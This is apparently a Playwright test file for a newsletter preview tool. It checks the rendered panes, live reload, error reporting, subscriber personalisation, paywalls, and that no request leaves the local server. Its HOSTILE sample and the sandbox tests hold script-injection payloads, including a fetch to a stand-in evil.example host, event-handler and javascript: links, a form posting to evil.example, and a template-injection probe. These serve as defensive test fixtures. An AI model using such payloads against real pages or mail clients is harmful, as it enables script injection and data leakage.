"""`newsletter preview POST` in a real browser: what each pane shows, what a save does, and that nothing leaves."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from tests.cli.folder import SETTINGS

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import Browser, FrameLocator, Page

pytestmark = pytest.mark.browser

ROOT = Path(__file__).parents[2]
PICTURE = ROOT / "examples" / "posts" / "images" / "tide-at-saltmarsh-quay.png"
HEAD = "---\ntitle: Spring tide\nsubtitle: On the moon\nmerge: true\n---\n"
BODY = "Dear {{ first_name or 'friend' }}, the water came.\n\n![A tide](tide.png)\n\n[Jump](#end) and [a link](https://example.com/a).\n"
LONG = "\n\n".join(f"Paragraph {n} of many." for n in range(40)) + "\n\n# End\n"
LIST = "email,first_name,tier\nada@example.net,Ada,paid\ngrace@example.net,Grace,free\n"


@dataclass
class Served:
    """A preview that is being served, and the browser's tab that shows it."""

    folder: Path
    tab: Page
    process: subprocess.Popen[str]
    requests: list[str]
    told_to_end: bool = False

    def end(self) -> None:
        if not self.told_to_end:  # a second signal would cut its end short
            self.process.send_signal(signal.SIGINT)
        self.told_to_end = True

    def save(self, name: str, text: str) -> None:
        (self.folder / name).write_text(text)

    def mail(self, view: str = "desktop") -> FrameLocator:
        return self.tab.frame_locator(f"#pane-{view} iframe:not(.coming)")

    def press(self, key: str) -> None:
        self.tab.keyboard.press(key)

    def style(self, view: str, selector: str, name: str) -> str:
        found = self.mail(view).locator(selector).first
        return str(found.evaluate("(one, name) => getComputedStyle(one)[name]", name))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    here = tmp_path / "letter"
    here.mkdir()
    (here / "newsletter.toml").write_text(SETTINGS.format(port=1))
    (here / "post.md").write_text(HEAD + BODY + LONG)
    (here / "subs.csv").write_text(LIST)
    (here / "tide.png").write_bytes(PICTURE.read_bytes())
    return here


@contextmanager
def served(browser: Browser, folder: Path, *options: str) -> Iterator[Served]:
    kept = {name: value for name, value in os.environ.items() if not name.startswith(("NEWSLETTER_", "DISPLAY", "WAY"))}
    process = subprocess.Popen(
        [sys.executable, "-m", "newsletter_cli", "preview", "post.md", *options],
        cwd=folder,
        env={**kept, "PYTHONPATH": str(ROOT), "HOME": str(folder)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    assert process.stderr is not None
    tab = browser.new_context(viewport={"width": 1280, "height": 800}).new_page()
    shown = Served(folder, tab, process, [])
    try:
        address = re.search(r"http://127\.0\.0\.1:\d+/\S+", process.stdout.readline())
        assert address, process.stderr.read()
        tab.context.on("request", lambda request: shown.requests.append(request.url))
        tab.goto(address[0])
        tab.wait_for_selector("#pane-desktop iframe:not(.coming)")
        yield shown
        origin = address[0].partition("#")[0]
        assert [url for url in shown.requests if not url.startswith((origin, "data:"))] == []
    finally:
        tab.context.close()
        shown.end()
        _, said = process.communicate(timeout=60)
    assert process.returncode == 0
    assert [line for line in said.splitlines() if not line.startswith("warning: post.md")] == []


@pytest.fixture
def shown(browser: Browser, folder: Path) -> Iterator[Served]:
    with served(browser, folder, "--list", "subs.csv") as preview:
        yield preview


def test_each_pane_shows_what_it_says(shown: Served) -> None:
    paragraph = ".post-body p"
    expect(shown.mail().locator(".nl-title")).to_have_text("Spring tide")
    assert shown.mail().locator("img").first.evaluate("image => image.naturalWidth") > 0
    light = shown.style("desktop", paragraph, "color")
    shown.press("2")
    expect(shown.mail("phone").locator(".nl-title")).to_be_visible()
    assert shown.mail("phone").locator("html").evaluate("page => page.clientWidth") == 375
    assert shown.style("phone", ".nl-title", "fontSize") == "29px"
    shown.press("3")
    expect(shown.mail("dark").locator(".nl-title")).to_be_visible()
    assert shown.style("dark", "body", "backgroundColor") == "rgb(23, 24, 26)"
    assert shown.style("dark", paragraph, "color") != light
    shown.press("4")
    expect(shown.mail("forced").locator(".nl-title")).to_be_visible()
    assert shown.style("forced", paragraph, "color") == light
    assert "invert" in shown.style("forced", "html", "filter")
    assert "invert" in shown.style("forced", "img", "filter")
    shown.press("5")
    expect(shown.tab.locator("#pane-text")).to_contain_text("Dear friend, the water came.")
    shown.press("6")
    expect(shown.tab.locator("#headers")).to_contain_text("reader@example.com")
    shown.press("7")
    expect(shown.tab.locator("#source")).to_contain_text("<!DOCTYPE html>")
    expect(shown.tab.locator("#pane-desktop")).to_be_hidden()
    assert re.fullmatch(r"\d+(\.\d)? kB of 102 kB", shown.tab.locator("#size").inner_text())


def test_light_and_dark_are_the_panes_and_not_the_machines(shown: Served) -> None:
    shown.tab.emulate_media(color_scheme="dark")
    assert shown.style("desktop", "body", "backgroundColor") == "rgb(255, 255, 255)"
    shown.tab.emulate_media(color_scheme="light")
    shown.press("3")
    expect(shown.mail("dark").locator(".nl-title")).to_be_visible()
    assert shown.style("dark", "body", "backgroundColor") == "rgb(23, 24, 26)"


def test_an_edit_appears_by_itself_and_where_one_was_reading(shown: Served) -> None:
    shown.mail().locator("html").evaluate("page => page.ownerDocument.defaultView.scrollTo(0, 700)")
    shown.save("post.md", HEAD + BODY.replace("the water came", "the water went") + LONG)
    expect(shown.mail().locator(".post-body")).to_contain_text("the water went")
    assert shown.mail().locator("html").evaluate("page => page.scrollTop") == 700


def test_a_picture_a_template_the_settings_and_a_text_part_are_followed(shown: Served) -> None:
    (shown.folder / "tide.png").unlink()
    expect(shown.tab.locator("#problems-list")).to_contain_text("tide.png: there is no such file")
    expect(shown.tab.locator("#problems-list .error .place")).to_have_text("post.md:8")
    (shown.folder / "tide.png").write_bytes(PICTURE.read_bytes())
    expect(shown.tab.locator("#problems-list .error")).to_have_count(0)
    shown.save("newsletter.toml", SETTINGS.format(port=1).replace("The Letter", "The Other"))
    expect(shown.tab.locator("#from")).to_have_text("The Other")
    own = shown.folder / "templates" / "email" / "_base"
    own.mkdir(parents=True)
    (own / "masthead.html").write_text("<p>Our own head</p>")
    expect(shown.mail().locator("body")).to_contain_text("Our own head")
    (own / "masthead.html").write_text("<p>Our second head</p>")
    expect(shown.mail().locator("body")).to_contain_text("Our second head")
    shown.press("5")
    shown.save("post.txt", "By hand.")
    expect(shown.tab.locator("#pane-text")).to_contain_text("By hand.")


def test_a_post_broken_midway_shows_what_is_wrong_and_the_mail_as_it_was(shown: Served) -> None:
    shown.save("post.md", '---\ntitle: [never closed\nkey: "\n---\nx')
    expect(shown.tab.locator("#banner")).to_contain_text("cannot be read")
    expect(shown.tab.locator("#problems-list .error .place").first).to_contain_text("post.md:")
    expect(shown.mail().locator(".nl-title")).to_have_text("Spring tide")
    shown.save("newsletter.toml", "[newsletter\n")
    expect(shown.tab.locator("#problems-list .error .place").first).to_contain_text("newsletter.toml:1")
    shown.save("newsletter.toml", SETTINGS.format(port=1))
    (shown.folder / "post.md").unlink()
    expect(shown.tab.locator("#problems-list .error .place").first).to_have_text("post.md")
    shown.save("post.md", HEAD.replace("Spring", "Neap") + BODY)
    expect(shown.tab.locator("#banner")).to_be_hidden()
    expect(shown.mail().locator(".nl-title")).to_have_text("Neap tide")


def test_the_mail_of_somebody_on_the_list(shown: Served) -> None:
    shown.press("r")
    shown.tab.keyboard.type("grace")
    expect(shown.tab.locator("#found button")).to_have_count(1)
    shown.press("Enter")
    expect(shown.mail().locator(".post-body")).to_contain_text("Dear Grace, the water came.")
    shown.save("subs.csv", LIST.replace("Grace,", "Hopper,"))
    expect(shown.mail().locator(".post-body")).to_contain_text("Dear Hopper, the water came.")
    shown.tab.reload()
    expect(shown.mail().locator(".post-body")).to_contain_text("Dear Hopper, the water came.")
    shown.save("subs.csv", "email,first_name\nada@example.net,Ada\n")
    expect(shown.tab.locator("#problems-list")).to_contain_text("the list has nobody grace@example.net")


def test_both_sides_of_the_wall(browser: Browser, folder: Path) -> None:
    wall = '\n::: {.paywall-jump component-name="PaywallToDOM"}\n:::\n\nOnly for members.\n'
    (folder / "post.md").write_text(HEAD + BODY + wall)
    with served(browser, folder, "--list", "subs.csv", "--as", "grace@example.net") as shown:
        expect(shown.tab.locator("#reader")).to_have_text("grace@example.net, free")
        expect(shown.mail().locator(".post-body")).to_contain_text("Dear Grace")
        expect(shown.mail().locator("body")).not_to_contain_text("Only for members.")
        shown.press("r")
        shown.tab.click("#readers [data-tier=paid]")
        expect(shown.mail().locator("body")).to_contain_text("Only for members.")
        expect(shown.tab.locator("#reader")).to_have_text("Made-up reader, paid")
        shown.press("r")
        shown.tab.click("#readers [data-tier=free]")
        expect(shown.mail().locator("body")).not_to_contain_text("Only for members.")


def test_keys_work_where_the_mail_was_clicked_and_jumps_stay_in_it(shown: Served) -> None:
    shown.mail().locator("a", has_text="Jump").click()
    shown.tab.wait_for_function("document.querySelector('#pane-desktop iframe').contentWindow.scrollY > 0")
    assert len(shown.tab.context.pages) == 1
    shown.press("5")
    expect(shown.tab.locator("#pane-text")).to_be_visible()
    shown.press("ArrowRight")
    expect(shown.tab.locator("#pane-headers")).to_be_visible()
    shown.press("?")
    expect(shown.tab.locator("#help")).to_be_visible()
    shown.press("Escape")
    expect(shown.tab.locator("#help")).to_be_hidden()
    shown.press("w")
    expect(shown.tab.locator("#problems")).to_be_visible()


HOSTILE = """
<script>top.document.title = 'ran'; fetch('https://evil.example/s')</script>

<img src="https://evil.example/pixel.png" onerror="top.document.title='ran'" alt="far away">

<svg onload="top.document.title='ran'"><a xlink:href="javascript:top.document.title='ran'"><text>x</text></a></svg>

<iframe src="https://evil.example/" srcdoc="<script>top.document.title='ran'</script>"></iframe>

<meta http-equiv="refresh" content="0;url=https://evil.example/r">

<link rel="stylesheet" href="https://evil.example/x.css"><style>@import 'https://evil.example/y.css';</style>

<p style="background: url(https://evil.example/b.png)">Ground</p>

<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4" autoplay></video>

[click](javascript:top.document.title='ran') {{ 7*7 }}
"""


def test_a_hostile_post_runs_nothing_and_fetches_nothing(browser: Browser, folder: Path) -> None:
    (folder / "post.md").write_text("---\ntitle: <script>top.document.title='ran'</script>\n---\n" + HOSTILE)
    with served(browser, folder) as shown:
        for key in "1234567":
            shown.press(key)
        shown.press("1")
        expect(shown.mail().locator("body")).to_contain_text("Ground")
        assert "ran" not in shown.tab.title().replace("top.document.title='ran'", "")


def test_pictures_of_the_web_are_loaded_when_asked_for_and_only_then(browser: Browser, folder: Path) -> None:
    (folder / "post.md").write_text("---\ntitle: T\n---\n![far](https://web.example/a.png)\n\n![near](tide.png)\n")
    with served(browser, folder) as shown:
        expect(shown.mail().locator("img[data-withheld]")).to_have_attribute("alt", "far")
        assert shown.mail().locator("img[src]").evaluate("image => image.naturalWidth") > 0
        assert not [url for url in shown.requests if "web.example" in url]
        shown.tab.context.route("https://web.example/*", lambda route: route.fulfill(path=PICTURE))
        shown.press("i")
        expect(shown.tab.locator("#pictures")).to_have_text("Pictures: web too")
        shown.mail().locator("img[alt=far][src]").wait_for()
        assert shown.mail().locator("img[alt=far]").evaluate("image => image.naturalWidth") > 0
        assert shown.requests.count("https://web.example/a.png") == 1
        shown.requests.remove("https://web.example/a.png")
        shown.press("i")
        expect(shown.mail().locator("img[data-withheld]")).to_have_count(2)


def test_even_a_script_that_reached_the_mail_does_not_run(browser: Browser, folder: Path) -> None:
    own = folder / "templates" / "email" / "_base"
    own.mkdir(parents=True)
    (own / "masthead.html").write_text(
        "<script>top.document.title = 'ran'</script><p onclick=\"top.document.title = 'ran'\">Click me</p>"
        "<form action=https://evil.example/><button>Send</button></form>"
    )
    with served(browser, folder) as shown:
        shown.mail().locator("p", has_text="Click me").click()
        shown.mail().locator("button", has_text="Send").click()
        expect(shown.tab).to_have_title("Spring tide")
        # In a tab of its own, outside the sandboxed frame.
        source = shown.tab.locator("#pane-desktop iframe").get_attribute("src")
        alone = shown.tab.context.new_page()
        alone.goto(re.sub(r"#.*", "", shown.tab.url) + str(source))
        alone.locator("p", has_text="Click me").click()
        assert alone.title() == "Spring tide"


def test_the_page_says_when_the_preview_has_ended(browser: Browser, folder: Path) -> None:
    with served(browser, folder) as shown:
        shown.end()
        expect(shown.tab.locator("#live")).to_have_text("the preview has ended")
